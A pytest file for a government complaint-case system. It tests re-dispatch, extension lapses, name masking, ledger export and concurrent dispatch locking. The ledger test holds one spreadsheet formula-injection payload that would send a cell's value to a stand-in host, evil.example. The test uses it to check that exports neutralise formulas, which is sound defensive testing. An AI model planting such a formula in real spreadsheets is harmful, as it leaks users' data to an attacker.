"""Rules found missing in review: re-dispatch keeps co-departments sane, a pending extension
lapses when its phase ends, names are masked like phones, and one case takes one action at
a time."""
import io
import threading
import time

from openpyxl import load_workbook
import pytest

from app.cases import operations as ops
from app.cases.models import AuditEvent, CaseState, ExtensionStatus
from app.extensions import db
from tests.conftest import is_postgres, login


def test_redispatch_keeps_a_co_department_that_stays(make_case, world, make_department):
    third = make_department(code="HOUSING", name="住建局")
    case = make_case()
    ops.dispatch_case(case, world.dispatcher, world.dept, co_departments=[third])
    db.session.commit()
    ops.return_case(case, world.handler, "属税务部门职责")
    db.session.commit()
    ops.dispatch_case(case, world.dispatcher, world.other_dept, co_departments=[third])
    db.session.commit()
    assert [cd.department_id for cd in case.co_departments] == [third.id]
    ops.return_case(case, world.other_handler, "仍不属于本部门")
    db.session.commit()
    ops.dispatch_case(case, world.dispatcher, world.dept, co_departments=[world.other_dept])
    db.session.commit()
    assert [cd.department_id for cd in case.co_departments] == [world.other_dept.id]


@pytest.mark.parametrize("ends_phase", ["reply", "return"])
def test_a_pending_extension_lapses_when_its_phase_ends(make_case, world, ends_phase):
    case = make_case(CaseState.signed)
    ops.request_extension(case, world.handler, 3, "需要协调")
    db.session.commit()
    if ends_phase == "reply":
        ops.reply_to_case(case, world.handler, "已解决")
    else:
        ops.return_case(case, world.handler, "不属于本部门")
    db.session.commit()
    assert case.extension_requests[0].status is ExtensionStatus.withdrawn
    actions = [e.action for e in db.session.execute(
        db.select(AuditEvent).filter_by(case_id=case.id)).scalars()]
    assert "withdraw_extension" in actions
    if ends_phase == "reply":  # the reopened case may ask again
        from app.cases.models import Rating
        ops.rate_case(case, Rating.dissatisfied, "没解决", tags=["unresolved"])
        ops.request_extension(case, world.handler, 2, "再协调")
        db.session.commit()


def test_handlers_see_the_submitters_name_masked(client, login_as, world, make_case):
    case = make_case(CaseState.dispatched)
    login_as(world.handler)
    html = client.get(f"/handling/cases/{case.tracking_no}").get_data(as_text=True)
    assert "张先生" not in html and "张**" in html


def test_the_ledger_stores_formulas_as_text_and_drops_control_characters(
        client, world, make_case):
    make_case(content='=HYPERLINK("http://evil.example/?x="&A1,"点击")')
    legacy = make_case()  # rows from before intake refused control characters
    legacy.content = "企业反映\x01的问题说明内容"
    db.session.commit()
    login(client, "dispatcher")
    response = client.get("/figures/ledger.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data))["台账"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.value.startswith("=HYPERLINK") and c.data_type == "s" for c in cells)
    assert any(c.value == "企业反映的问题说明内容" for c in cells)


def test_two_dispatchers_on_one_case_take_turns(app, world, make_case, make_user, monkeypatch):
    if not is_postgres(app.config["SQLALCHEMY_DATABASE_URI"]):
        pytest.skip("needs PostgreSQL: SQLite serializes writers, so there is no race to lose")
    from app.auth.models import Role
    second = make_user(Role.dispatcher, username="dispatcher2")
    case = make_case()
    slow_dispatch = ops.dispatch_case

    def dispatch_slowly(*args, **kwargs):
        time.sleep(0.5)  # the second request arrives while the first still holds the case
        return slow_dispatch(*args, **kwargs)
    monkeypatch.setattr(ops, "dispatch_case", dispatch_slowly)
    clients = [app.test_client(), app.test_client()]
    login(clients[0], world.dispatcher.username), login(clients[1], second.username)
    statuses, url = [], f"/office/cases/{case.tracking_no}/dispatch"

    def dispatch(client, department_id):
        response = client.post(url, data={"dispatch-department": str(department_id)})
        statuses.append(response.status_code)
    threads = [threading.Thread(target=dispatch, args=(c, d))
               for c, d in zip(clients, (world.dept.id, world.other_dept.id))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    db.session.expire_all()
    dispatches = db.session.execute(db.select(db.func.count()).select_from(AuditEvent).where(
        AuditEvent.action == "dispatch", AuditEvent.case_id == case.id)).scalar()
    assert sorted(statuses) == [302, 409] and dispatches == 1
